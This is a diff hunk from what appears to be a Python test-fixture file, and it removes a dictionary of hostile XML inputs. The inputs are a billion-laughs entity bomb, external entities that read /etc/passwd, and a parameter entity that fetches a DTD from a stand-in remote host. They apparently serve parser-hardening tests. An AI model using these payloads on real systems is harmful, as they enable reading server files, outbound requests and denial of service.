@@ -223,20 +223,6 @@ YAML = {
     "blank": b" \n\n",
 }
 
-#: XML that would read another file, or grow without end.
-XML = {
-    "an entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]><Results>&a;</Results>',
-    "a billion of laughs": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "lol">'
-    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 9}">' for n in range(1, 10))
-    + "]><Results>&a9;</Results>",
-    "a file for an entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
-    "<Results>&a;</Results>",
-    "a request for an entity": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://{AWAY}/x.dtd"> %a;]>'
-    "<Results/>",
-    "a file for the type": '<?xml version="1.0"?><!DOCTYPE r SYSTEM "file:///etc/passwd"><Results/>',
-    "a type": "<!DOCTYPE Results><Results/>",
-}
-
 #: All that is text and stays text in a cell of a table: values by kind and name.
 TEXTS = {
     f"{kind}, {name}": value
